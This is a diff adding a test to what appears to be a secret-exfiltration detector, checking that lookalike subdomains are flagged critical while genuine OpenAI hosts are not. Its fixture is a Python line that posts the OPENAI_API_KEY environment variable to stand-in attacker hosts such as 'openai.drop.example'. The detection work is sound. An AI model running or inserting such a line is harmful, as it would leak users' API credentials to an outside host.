@@ -2464,3 +2464,17 @@ Deno.test("a backslash ends a URL's host as fetch reads it: no user name hides t
     ["info"],
   );
 });
+
+Deno.test("a key's own API is told by the domain a host was registered under, not by a subdomain anyone can make", () => {
+  const severity = (host: string) =>
+    secretSeverities(
+      "scripts/k.py",
+      `import os, requests\nrequests.post("https://${host}/v1", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})\n`,
+    );
+  for (const host of ["openai.drop.example", "api.openai.com.drop.example"]) {
+    assert.deepEqual(severity(host), ["critical"], host);
+  }
+  for (const host of ["api.openai.com", "openai.com", "api.openai.co.uk"]) {
+    assert.deepEqual(severity(host), ["info"], host);
+  }
+});
